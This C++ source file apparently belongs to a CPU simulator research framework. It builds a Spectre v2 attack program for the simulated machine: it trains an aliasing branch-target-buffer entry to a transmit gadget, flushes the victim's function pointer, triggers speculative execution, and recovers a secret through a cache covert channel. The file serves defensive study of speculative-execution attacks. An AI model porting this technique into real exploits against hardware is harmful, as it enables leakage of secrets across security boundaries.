/**
 * @file
 * Spectre v2 — indirect branch target injection. The attacker trains
 * an indirect branch in its own code that aliases the victim's
 * indirect call in the BTB (same set index and partial tag), planting
 * a transmit gadget as the predicted target. The victim's call then
 * speculatively executes the gadget with attacker-prepared register
 * contents before the real target resolves.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

namespace {
/** Victim function-pointer slot (flushed to widen the window). */
constexpr Addr kFpSlot = kVictimBase + 0x600;
/** Attacker-owned dummy byte + dummy probe used while training. */
constexpr Addr kDummyData = kVictimBase + 0x700;
constexpr Addr kDummyProbe = 0x6000000;
/** BTB geometry the attack assumes: 1024 sets x 4-bit partial tag. */
constexpr Addr kAliasDistance = 1024 << 4;
} // namespace

void
SpectreV2::adjustConfig(SimConfig &cfg) const
{
    // Model a BTB with a short partial tag (as on real hardware),
    // which makes cross-code aliasing practical.
    cfg.core.predictor.btb.tagBits = 4;
}

Program
SpectreV2::build(std::uint8_t secret) const
{
    ProgramBuilder b("spectre-v2");
    declareChannelSegments(b);
    b.segment(kSecretAddr, {secret});
    b.zeroSegment(kDummyData, 64);
    b.zeroSegment(kDummyProbe, 256 * kProbeStride);

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- transmit gadget G: load [r21 + r22], transmit via [r23] --------
    const Addr gadget_pc = b.here();
    b.add(13, 21, 22);
    b.load(14, 13, 0, 1);            // (1) access
    b.shli(15, 14, 9);
    b.add(16, 23, 15);
    b.load(17, 16, 0, 1);            // (2) transmit
    b.ret(28);

    // --- legit target L ----------------------------------------------------
    const Addr legit_pc = b.here();
    b.ret(28);
    b.word(kFpSlot, legit_pc);

    // --- victim: indirect call through the (slow) function pointer ------
    auto victim = b.label();
    b.movi(19, static_cast<std::int64_t>(kFpSlot));
    b.load(20, 19, 0, 8);            // flushed -> resolves late
    const Addr victim_callr_pc = b.here();
    b.callr(28, 20);                 // predicted from the aliased entry
    b.ret(30);

    const Addr alias_pc = victim_callr_pc + kAliasDistance;

    // --- main ------------------------------------------------------------------
    b.bind(main_l);
    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
    b.prefetch(1, 0);

    // Benign gadget arguments while training (attacker's own data).
    b.movi(21, static_cast<std::int64_t>(kDummyData));
    b.movi(22, 0);
    b.movi(23, static_cast<std::int64_t>(kDummyProbe));

    // Train: execute the attacker's aliasing indirect jump 4 times.
    // The nop padding that positions the jump is never executed; the
    // loop jumps straight to the aliasing branch.
    b.movi(18, 0);
    b.movi(27, static_cast<std::int64_t>(gadget_pc));
    b.movi(28, static_cast<std::int64_t>(alias_pc + 1));
    auto train_top = b.label();
    auto alias_label = b.futureLabel();
    b.jmp(alias_label);
    b.padToPc(alias_pc);
    b.bind(alias_label);
    b.jmpr(27);                      // BTB[alias] <- gadget
    // The gadget's `ret r28` returns here (alias_pc + 1).
    b.addi(18, 18, 1);
    b.movi(5, 4);
    b.blt(18, 5, train_top);

    // Arm the gadget registers with the secret's location, flush the
    // probe and the victim's function pointer, then fire once.
    b.movi(21, static_cast<std::int64_t>(kSecretAddr));
    b.movi(22, 0);
    b.movi(23, static_cast<std::int64_t>(kProbeBase));
    emitProbeFlush(b);
    b.movi(1, static_cast<std::int64_t>(kFpSlot));
    b.clflush(1, 0);
    b.fence();
    b.call(30, victim);
    b.fence();

    // (3) recover.
    emitCacheRecoverLoop(b);
    b.halt();
    return b.build();
}

} // namespace nda
